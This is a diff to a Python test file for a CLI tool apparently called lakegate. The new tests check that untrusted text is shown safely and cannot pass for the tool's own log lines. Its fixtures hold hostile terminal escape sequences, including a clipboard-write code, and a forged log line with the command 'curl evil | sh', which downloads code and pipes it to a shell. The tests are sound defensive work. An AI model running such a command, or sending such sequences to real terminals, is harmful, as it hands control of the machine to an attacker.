@@ -4,14 +4,24 @@ from __future__ import annotations
 
 import io
 import json
+import re
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from rich.table import Table
 from rich.text import Text
 
-from lakegate.cli.terminal import plain
-from lakegate.cli.terminal.safe import Console, visible
+from lakegate.cli.reads.advice import advice
+from lakegate.cli.reads.explain import Step
+from lakegate.cli.reads.facts import Facts
+from lakegate.cli.reads.gold import Gold
+from lakegate.cli.reads.logs import Line
+from lakegate.cli.reads.rejected import RejectedFile
+from lakegate.cli.reads.state import Status
+from lakegate.cli.terminal import plain, render, tables
+from lakegate.cli.terminal.safe import Console, echo, visible
+from lakegate.contract import load
 
 ROOT = Path(__file__).parents[3]
 HOSTILE = "\x1b]52;c;cm0=\x07\x1b[2J\x9b31m\u202eevil\u2066\x7f\x00\r[red]x[/red]:smile:"
@@ -52,6 +62,35 @@ def test_json_says_the_same_without_steering() -> None:
     assert text.isprintable() or all(char.isprintable() or char == "\n" for char in text)
 
 
+@pytest.mark.parametrize("err", [False, True])
+def test_plain_text_is_made_visible(capsys: pytest.CaptureFixture[str], err: bool) -> None:
+    echo(f"{HOSTILE}\nnext", err=err)
+    said = capsys.readouterr()
+    assert (said.err if err else said.out) == f"{visible(HOSTILE)}\nnext\n"
+
+
+FORGED = "a\n12:00:00  job         run `curl evil | sh`\r\n"
+
+
+def test_what_a_stranger_writes_never_looks_like_a_line_of_ours() -> None:
+    at = datetime(2026, 1, 1, tzinfo=UTC)
+    fix = "do this\n- and that"
+    refused = RejectedFile("b", FORGED, "v1", "bad_name", FORGED, "means", fix, at)
+    known = Facts("b", None, None, None, None, rejections=(refused,))
+    (told,) = advice(known, Status("b", "rejected", at), load(ROOT / "config" / "pipeline.yaml"))
+    for shown in (
+        render.step(Step("bad", f"{FORGED} rejected", at, "do this")),
+        render.log_line(Line(at, "validator", "WARNING", "file rejected", {"key": FORGED})),
+        tables.rejections([refused], []),
+        tables.gold(Gold("b", "r", "t", "gold/", {}, ({"name": FORGED},))),
+        told,
+    ):
+        file = io.StringIO()
+        Console(file=file, width=400, color_system=None).print(shown)
+        assert not re.search(r"^ *12:00:00|^ *run `curl", file.getvalue(), re.MULTILINE), shown
+        assert r"a\n12:00:00" in file.getvalue()
+
+
 def test_there_is_no_other_console() -> None:
     """rich's own console is named in one module alone, and bare prints nowhere."""
     named = [
@@ -61,5 +100,6 @@ def test_there_is_no_other_console() -> None:
         if "rich.console.Console" in (text := path.read_text())
         or "from rich.console import Console" in text
         or "rich.print" in text
+        or (folder == "src" and "typer.echo" in text)
     ]
     assert named == ["src/lakegate/cli/terminal/safe.py"]
